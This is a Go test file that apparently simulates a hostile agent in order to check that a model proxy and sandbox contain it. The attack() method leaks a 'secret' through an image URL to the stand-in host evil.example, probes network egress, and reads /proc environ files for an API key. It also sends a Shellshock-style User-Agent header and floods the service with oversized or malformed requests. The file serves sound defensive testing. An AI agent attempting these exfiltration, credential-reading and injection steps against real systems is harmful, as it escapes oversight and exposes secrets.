package acptest

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"time"

	"cookoff/internal/oneline"
)

// attack tries what no agent may, and gives a line for each attempt with what came of it.
func (a *agent) attack() string {
	var told strings.Builder
	for _, try := range []struct{ name, body, header string }{
		{"an address in content",
			oneline.Of(`{"model":"m","messages":[
				{"role":"user","content":[
					{"type":"image_url","image_url":{"url":"https://evil.example/?q=secret"}}]}]}`), ""},
		{"a search by the provider", `{"model":"m","messages":[],"Enable_Search":true}`, ""},
		{"a tool with two types", `{"model":"m","messages":[],"tools":[{"type":"web_search","Type":"function"}]}`, ""},
		{"eight replies", `{"model":"m","messages":[],"n":"8"}`, ""},
		{"large headers", `{"model":"m","messages":[]}`, strings.Repeat("x", 9<<10)},
	} {
		fmt.Fprintf(&told, "%s: %s\n", try.name, send(context.Background(), try.body, try.header))
	}
	var all sync.WaitGroup
	for range 4 { // and none of them is waited for
		all.Go(func() {
			ctx, cancel := context.WithTimeout(context.Background(), time.Millisecond)
			defer cancel()
			send(ctx, `{"model":"m","messages":[{"role":"user","content":"write a book"}],"max_tokens":100000}`, "")
		})
	}
	all.Wait()
	if c, err := net.DialTimeout("tcp", "1.1.1.1:443", time.Second); err == nil {
		c.Close()
		told.WriteString("the web: reached\n")
	}
	for _, path := range []string{"/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline"} {
		if b, err := os.ReadFile(path); err == nil && bytes.Contains(b, []byte("sk-test")) {
			fmt.Fprintf(&told, "the key: it stands in %s\n", path)
		}
	}
	a.babble()
	return told.String()
}

// send makes a request of the model, and says what status it got.
func send(ctx context.Context, body, header string) string {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost,
		os.Getenv("FAKE_BASE_URL")+"/chat/completions?account=other&beta=1", strings.NewReader(body))
	if err != nil {
		return err.Error()
	}
	req.Header.Set("Authorization", "Bearer "+os.Getenv("FAKE_TOKEN"))
	req.Header.Set("User-Agent", "() { :; }; <script>")
	req.Header.Set("X-Stainless-Os", header)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return "no answer"
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, resp.Body)
	return fmt.Sprint(resp.StatusCode)
}

// babble says by the protocol what nobody expects: huge ids, shapes that do not fit, depth
// without end, thousands of calls.
func (a *agent) babble() {
	long := strings.Repeat("i", 4<<10)
	for i := range 2000 {
		a.update(map[string]any{"sessionUpdate": "tool_call", "toolCallId": fmt.Sprint(long, i),
			"title": long, "name": long,
			"kind": "read", "status": "completed", "rawInput": map[string]string{"a": "\u001b[2J" + long}})
	}
	a.update(map[string]any{"sessionUpdate": []int{1}, "toolCallId": map[string]int{}})
	a.write(map[string]any{"jsonrpc": "2.0", "id": long, "method": "session/request_permission", "params": 7})
	a.write(map[string]any{"jsonrpc": "2.0", "id": 3, "result": map[string]string{"stopReason": "end_turn"},
		"error": nil})
	a.mu.Lock()
	defer a.mu.Unlock()
	_, _ = fmt.Fprintf(a.out, "%s\n\xff\xfe\n", strings.Repeat("[", 20_000))
}
